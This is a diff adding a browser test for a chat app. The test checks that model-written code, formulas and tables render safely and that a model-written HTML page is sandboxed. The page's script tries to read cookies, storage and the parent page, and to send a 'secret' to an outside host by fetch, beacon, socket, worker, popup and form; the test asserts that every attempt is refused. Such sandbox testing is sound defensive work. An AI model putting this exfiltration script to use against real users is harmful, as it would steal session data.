@@ -1,0 +1,132 @@
+// Thorough: run by the merge check, or by name.
+/** What models make: code, formulas, tables, and pages that try what they may not. */
+import assert from 'node:assert/strict'
+import { createServer } from 'node:net'
+import { test } from 'node:test'
+import { needs } from '../../needs.ts'
+import { testServer } from '../../server.ts'
+import { breaches } from '../axe.ts'
+import { hasChromium, sharedBrowser, visit } from '../browser.ts'
+import { signIn } from '../steps.ts'
+
+const browser = sharedBrowser()
+const fence = (language: string, text: string): string => `\`\`\`${language}\n${text}\n\`\`\``
+
+/** Tries all that a page could do with a person's session, or to carry off what it knows, and writes down how it went. */
+const hostile = (elsewhere: string): string => `<!doctype html>
+<link rel="stylesheet" href="${elsewhere}/css"><link rel="prefetch" href="${elsewhere}/prefetch">
+<img src="${elsewhere}/img"><iframe src="${elsewhere}/frame"></iframe>
+<form id="form" action="${elsewhere}/form" method="post"><input name="a"></form>
+<ol id="told"></ol>
+<button onclick="location = '${elsewhere}/location?secret=1'">leave</button>
+<script>
+const tell = (what) => { const row = document.createElement('li'); row.textContent = what; told.append(row) }
+const attempt = async (what, how) => {
+  const late = new Promise((_, no) => setTimeout(() => no(new DOMException('', 'Unanswered')), 1000))
+  try { tell(what + ': ' + ((await Promise.race([how(), late])) ?? 'nothing')) } catch (error) { tell(what + ': refused, ' + error.name) }
+}
+const all = async () => {
+  await attempt('cookie', () => document.cookie || 'read')
+  await attempt('storage', () => localStorage.length)
+  await attempt('parent', () => parent.document.title)
+  await attempt('api', async () => (await fetch('/v1/me')).status)
+  await attempt('elsewhere', async () => (await fetch('${elsewhere}/fetch?secret=1')).status)
+  await attempt('beacon', () => { if (!navigator.sendBeacon('${elsewhere}/beacon', 'x')) throw new DOMException('', 'Refused') ; return 'taken' })
+  await attempt('socket', () => new Promise((ok, no) => { const s = new WebSocket('${elsewhere.replace('http', 'ws')}/ws'); s.onopen = () => ok('open'); s.onerror = () => no(new DOMException('', 'Refused')) }))
+  await attempt('worker', () => new Promise((ok, no) => { const w = new Worker('${elsewhere}/worker.js'); w.onerror = () => no(new DOMException('', 'Refused')); w.onmessage = ok }))
+  await attempt('peer', () => new RTCPeerConnection())
+  await attempt('module', () => import('${elsewhere}/module.js'))
+  await attempt('popup', () => { if (open('${elsewhere}/popup') === null) throw new DOMException('', 'Refused') ; return 'opened' })
+  await attempt('top', () => { top.location = '${elsewhere}/top' ; return 'set' })
+  form.submit()
+  tell('the end')
+}
+all()
+</script>`
+
+test(
+  'code has its colours and folds, formulas are drawn, tables open beside the chat, and a page of a model reaches nothing',
+  needs(hasChromium, 'Chromium'),
+  async () => {
+    /** What came from the browser, by its first line. A connection that it opens ahead and never uses says nothing. */
+    const caught: string[] = []
+    const trap = createServer((socket) => {
+      let said = ''
+      socket.on('error', () => {})
+      socket.on('data', (part: Buffer) => {
+        said += part.toString()
+        socket.destroy()
+      })
+      socket.on('close', () => caught.push(said.split('\r\n')[0]!))
+    }).listen(0, '127.0.0.1')
+    await new Promise((done) => trap.once('listening', done))
+    const { port } = trap.address() as { port: number }
+    try {
+      await using server = await testServer({ environment: { UK_SIM: 'on' } })
+      const alice = await server.person('Alice')
+      const chat = (await alice.post('/chats', { title: 'Made', model: 'sim/script' })).body.data
+      const text = [
+        fence('ts', '// Adds.\nexport const add = (a: number) => `${a}`\nconst \u202ehidden = 1'),
+        fence('py', `${'x = 1\n'.repeat(450)}last = 2`),
+        'So $e^{i\\pi} + 1 = 0$ and not $\\href{https://evil.example}{x}$.',
+        fence('csv', 'name,price\n"Ink, black",7\n\u{e0041},1'),
+        fence('html', hostile(`http://127.0.0.1:${port}`)),
+      ].join('\n\n')
+      await alice.post(`/chats/${chat.id}/messages`, { content: JSON.stringify({ steps: [{ text }] }) })
+      await using visitor = await visit(browser(), server.origin)
+      const { page } = visitor
+      await signIn(page, alice)
+      await page.goto(`/app/chats/${chat.id}`)
+      const log = page.getByRole('log', { name: 'Messages' })
+      const answer = log.getByRole('article', { name: /^sim\/script/ })
+      const kinds = async (kind: string) => {
+        await answer.locator(`.code-${kind}`).first().waitFor({ state: 'attached' })
+        return answer.locator(`.code-${kind}`).first().innerText()
+      }
+      assert.equal(await kinds('comment'), '// Adds.')
+      assert.match(await kinds('keyword'), /export|const/)
+      await answer.getByText('⟨U+202E⟩').first().waitFor({ state: 'attached' })
+      assert.equal(await answer.locator('[style*=color]').count(), 0)
+      await answer.getByRole('button', { name: 'Show all 451 lines' }).click()
+      await answer.getByText('last').waitFor({ state: 'attached' })
+      await answer.locator('math').first().waitFor({ state: 'attached' })
+      assert.equal(await answer.locator('math a, math [href]').count(), 0)
+
+      const pane = page.getByRole('complementary', { name: /^Artefact/ })
+      await answer.getByRole('button', { name: 'Open' }).last().click()
+      await pane.getByRole('cell', { name: 'Ink, black' }).waitFor()
+      await pane.getByRole('cell', { name: '⟨U+E0041⟩' }).waitFor()
+      assert.deepEqual(await breaches(page), [])
+      await page.setViewportSize({ width: 390, height: 800 })
+      assert.equal((await pane.boundingBox())!.width, 390)
+      await page.keyboard.press('Escape')
+      await pane.waitFor({ state: 'detached' })
+      await page.setViewportSize({ width: 1280, height: 800 })
+      assert.deepEqual(visitor.wrongs, [])
+
+      // From here on what the page tries is refused, and the browser says so in its console.
+      const asked: string[] = []
+      page.on('request', (request) => asked.push(request.url()))
+      await answer.getByRole('button', { name: 'Run', exact: true }).click()
+      const frame = page.frameLocator('iframe')
+      await frame.getByText('the end').waitFor()
+      const told = await frame.getByRole('listitem').allInnerTexts()
+      // A beacon that is refused says that it was taken: the trap knows better.
+      for (const what of 'cookie storage parent api elsewhere socket worker peer module popup top'.split(' '))
+        assert.match(
+          told.find((one) => one.startsWith(`${what}: `))!,
+          /refused/,
+          told.join('\n'),
+        )
+      // What it sets its own place to is not gone to either.
+      await frame.getByRole('button', { name: 'leave' }).click()
+      await page.waitForTimeout(500)
+      assert.deepEqual(caught, [])
+      assert.ok(!asked.some((url) => url.includes('/v1/me')), asked.join())
+      assert.equal(new URL(page.url()).pathname, `/app/chats/${chat.id}`)
+      await page.getByRole('heading', { level: 1, name: 'Made' }).waitFor()
+    } finally {
+      trap.close()
+    }
+  },
+)
